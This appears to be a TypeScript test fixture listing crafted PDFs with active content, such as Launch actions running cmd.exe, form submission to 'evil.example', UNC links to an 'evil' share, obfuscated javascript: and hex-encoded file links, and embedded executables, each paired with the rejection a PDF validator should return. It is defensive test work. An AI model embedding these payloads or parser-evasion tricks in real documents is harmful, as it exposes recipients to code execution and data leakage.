import type { Hidden } from './test-hidden-pdf.ts';
import { packedPdf, revised, streamOf, tabledPdf } from './test-pdf.ts';

const opens = '/OpenAction 8 0 R';
const action = (dictionary: string, more = {}) => tabledPdf({ catalog: opens, objects: { 8: dictionary, ...more } });
const annotation = (dictionary: string, more = {}) =>
  tabledPdf({ page: '/Annots [7 0 R]', objects: { 7: `<< /Type /Annot /Rect [0 0 9 9] ${dictionary} >>`, ...more } });

/** What else a PDF may do, or be, that no document does. */
export const activeInPdf: Hidden[] = [
  ['a program', () => action('<< /S /Launch /F (cmd.exe) >>'), 'fileActive'],
  ['a program for Windows', () => action('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), 'fileActive'],
  ['an action nobody knows', () => action('<< /S /Whatever >>'), 'fileActive'],
  [
    'another file to open',
    () => action('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
    'fileActive',
  ],
  ['a file within to open', () => action('<< /S /GoToE /T << /R /C /N (a) >> >>'), 'fileActive'],
  ['a form that sends itself', () => action('<< /S /SubmitForm /F (https://evil.example) >>'), 'fileActive'],
  ['a form that loads data', () => action('<< /S /ImportData /F (a.fdf) >>'), 'fileActive'],
  ['a film', () => annotation('/Subtype /Movie /Movie << /F (a.avi) >>'), 'fileActive'],
  ['a screen that plays', () => annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'), 'fileActive'],
  ['a sound', () => annotation('/Subtype /Sound /Sound 9 0 R', { 9: streamOf('x') }), 'fileActive'],
  ['rich media', () => annotation('/Subtype /RichMedia /RichMediaContent << >>'), 'fileActive'],
  [
    'a model in three dimensions',
    () => annotation('/Subtype /3D /3DD 9 0 R', { 9: streamOf('x', '/Type /3D /Subtype /U3D') }),
    'fileActive',
  ],
  ['an attached file', () => annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'), 'fileActive'],
  [
    'an embedded file',
    () =>
      tabledPdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
        objects: { 8: '<< /F (a.exe) /EF << /F 9 0 R >> >>', 9: streamOf('MZ') },
      }),
    'fileActive',
  ],
  [
    'an associated file',
    () =>
      tabledPdf({
        catalog: '/AF [8 0 R]',
        objects: { 8: '<< /Type /Filespec /F (a.exe) /#45F << /F 9 0 R >> >>', 9: streamOf('MZ') },
      }),
    'fileActive',
  ],
  [
    'a form in XML',
    () => tabledPdf({ catalog: '/AcroForm << /Fields [] /XFA 8 0 R >>', objects: { 8: streamOf('<xdp/>') } }),
    'fileActive',
  ],
  [
    'a form in XML, in parts',
    () =>
      tabledPdf({
        catalog: '/AcroForm << /Fields [] /#58FA [(template) 8 0 R] >>',
        objects: { 8: streamOf('<xdp/>') },
      }),
    'fileActive',
  ],
  [
    'content from elsewhere',
    () => tabledPdf({ page: '/Contents 8 0 R', objects: { 8: streamOf('', '/F (\\\\\\\\evil\\\\share\\\\x)') } }),
    'fileActive',
  ],
  [
    'a page of another file',
    () =>
      tabledPdf({
        page: '/Resources << /XObject << /A 8 0 R >> >>',
        objects: { 8: streamOf('', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >>') },
      }),
    'fileActive',
  ],
  [
    'a program for the printer',
    () =>
      tabledPdf({
        page: '/Resources << /XObject << /A 8 0 R >> >>',
        objects: { 8: streamOf('quit', '/Type /XObject /Subtype /PS') },
      }),
    'fileActive',
  ],
  [
    'a link that runs a script',
    () => annotation('/Subtype /Link /A << /S /URI /URI (java\nscript:alert\\(1\\)) >>'),
    'fileActive',
  ],
  [
    'a link to a file, in hexadecimal',
    () => annotation('/Subtype /Link /A << /S /URI /URI <66696c653a2f2f2f63> >>'),
    'fileActive',
  ],
  [
    'a link into the network, which stands elsewhere',
    () => annotation('/Subtype /Link /A << /S /URI /URI 9 0 R >>', { 9: '(\\\\\\\\evil\\\\share)' }),
    'fileActive',
  ],
  [
    'a password in the first of two revisions',
    () =>
      revised(tabledPdf({ trailer: '/Encrypt 8 0 R', objects: { 8: '<< /Filter /Standard >>' } }), {
        objects: { 9: 'null' },
      }),
    'fileEncrypted',
  ],
  [
    'a password in a stream of contents',
    () => packedPdf({ trailer: '/Encrypt 8 0 R', objects: { 8: '<< /Filter /Standard >>' } }),
    'fileEncrypted',
  ],
  [
    '201 pages by one page',
    () => tabledPdf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 201 >>' } }),
    'fileTooManyPages',
  ],
  [
    '201 pages',
    () =>
      tabledPdf({
        objects: Object.fromEntries(Array.from({ length: 200 }, (_, index) => [index + 4, '<< /Type /Page >>'])),
      }),
    'fileTooManyPages',
  ],
];
